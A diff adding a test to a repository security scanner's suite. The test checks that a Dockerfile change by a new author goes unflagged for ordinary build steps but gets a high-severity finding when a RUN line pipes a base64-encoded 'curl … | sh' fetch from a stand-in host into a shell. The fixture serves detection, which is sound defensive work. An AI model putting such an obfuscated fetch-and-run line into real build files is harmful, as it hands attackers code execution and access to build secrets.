@@ -7,6 +7,7 @@ import { buildRepo, tempDir } from '../../../../test/helpers/git-repo.ts';
 import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
 import { scan } from '../../../index.ts';
 import direnv from '../../autorun/direnv/rule.ts';
+import dockerfile from '../../autorun/dockerfile/rule.ts';
 import frameworkServer from '../../autorun/framework-server/rule.ts';
 import gitHooks from '../../autorun/git-hooks/rule.ts';
 import npmScripts from '../../autorun/npm-lifecycle-script/rule.ts';
@@ -176,4 +177,33 @@ it('leaves ordinary late work on a Next.js page alone, but not a late new next.c
     findingsOf(report, rule.meta.id).map(f => `${f.location.file} ${f.severity}`),
     ['next.config.js low'],
   );
+});
+
+it('says nothing when a new identity changes the build steps of a Dockerfile, but reports one that pipes a decoded payload into a shell', async () => {
+  const build = (name: string, steps: string): string => {
+    const dir = join(tmp, name);
+    buildRepo(dir, {
+      commits: [
+        ...base,
+        {
+          message: 'chore: move to nx',
+          date: '2025-01-13T09:00:00Z',
+          author: { name: 'Newcomer', email: 'new@example.net' },
+          files: { Dockerfile: `FROM node:20-alpine\nWORKDIR /app\nCOPY . .\n${steps}\nCMD ["node", "dist/api/main.js"]\n` },
+        },
+      ],
+    });
+    return dir;
+  };
+  const plain = await scan(build('docker-steps', 'RUN addgroup --system api && adduser --system -G api api\nRUN npm ci && npx nx build api'), {
+    rules: [dockerfile, rule],
+  });
+  assert.ok(plain.executionMap.some(s => s.kind === 'dockerfile'));
+  assert.deepEqual(findingsOf(plain, rule.meta.id, 'info'), []);
+  const hidden = await scan(build('docker-hidden', 'RUN --mount=type=secret,id=npm echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | sh'), {
+    rules: [dockerfile, rule],
+  });
+  const hit = findingsOf(hidden, rule.meta.id)[0];
+  assert.equal(hit?.location.file, 'Dockerfile');
+  assert.equal(hit.severity, 'high');
 });
